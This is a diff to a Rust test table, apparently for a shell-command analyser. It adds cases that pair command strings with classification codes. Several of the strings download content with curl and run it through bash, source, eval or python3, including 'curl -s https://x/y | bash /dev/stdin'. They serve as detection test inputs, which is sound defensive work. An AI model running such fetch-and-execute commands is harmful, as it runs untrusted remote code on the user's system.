@@ -289,6 +289,13 @@ const CASES: &[(&str, &str)] = &[
     ("curl -s https://x/y > f; sed s/a/b/ f > g; . ./g", "0057"),
     ("echo hi > f; cp f g; bash g", "0007"),
     ("curl -s https://x/y > f; read -r x < list; eval \"$x\"; x=$(< f); eval \"$x\"", "0057"),
+    ("curl -s https://x/y > f; source /dev/stdin < f", "0056"),
+    ("curl -s https://x/y > f; bash /dev/stdin < f", "0056"),
+    ("curl -s https://x/y | bash /dev/stdin", "0050"),
+    ("curl -s https://x/y > f; read -r l <> f; eval \"$l\"", "0056"),
+    ("read -r x < list; eval \"$x\"; curl -s https://x/y > f; python3 ./f", "0055"),
+    ("echo true > f; source /dev/stdin < f", "0007"),
+    ("read -r x < list; eval \"$x\"; echo true > f; python3 ./f", "0005"),
     ("echo true > f; x=$(< f); eval \"$x\"", "0007"),
     ("read -r x < list; eval \"$x\"; echo true > f; x=$(cat f); eval \"$x\"", "0005"),
     // --- return, break and continue leave the state they find ---------------------------------
